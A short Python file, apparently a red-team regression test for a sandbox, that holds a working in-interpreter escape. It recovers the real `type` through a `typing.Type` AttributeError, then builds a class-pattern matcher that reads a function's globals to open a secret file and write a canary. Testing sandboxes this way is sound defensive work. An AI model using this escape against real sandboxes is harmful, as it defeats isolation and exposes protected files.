# mypy: ignore-errors
# Technique: typing's aliases forward a missing public attribute to their origin
# (`getattr(self.__origin__, name)`), so the AttributeError from `typing.Type.nope` was
# raised on the real `type` and carries it as `.obj`. Three-argument `type()` then builds an
# ABC with `__match_args__ = ("__globals__",)` and a class pattern reads a runtime
# function's globals. Found in the red-team pass of the in-interpreter layer; was a real
# in-interpreter escape before the fix.
# Advisory: CVE-2024-47532 (RestrictedPython: AttributeError.obj leaked the object a guard
# refused)
import typing

from suaveplan import fs


def attack(secret_path, canary_path):
    try:
        typing.Type.nope  # noqa: B018, UP006 - the alias is the technique
    except AttributeError as e:
        real_type = e.obj
    u = "_" * 2
    hook = classmethod(lambda cls, c: True)
    any_ = real_type(
        "Any",
        (typing.get_origin(typing.Callable),),
        {u + "match_args" + u: (u + "globals" + u,), u + "subclasshook" + u: hook},
    )
    match fs.read_text:
        case any_(g):
            b = g["_b"]
            print("SANDBOX-" + "ESCAPED")
            out = [b.open(secret_path).read()]
            b.open(canary_path, "w").write("x")
            return out
    return "no match"
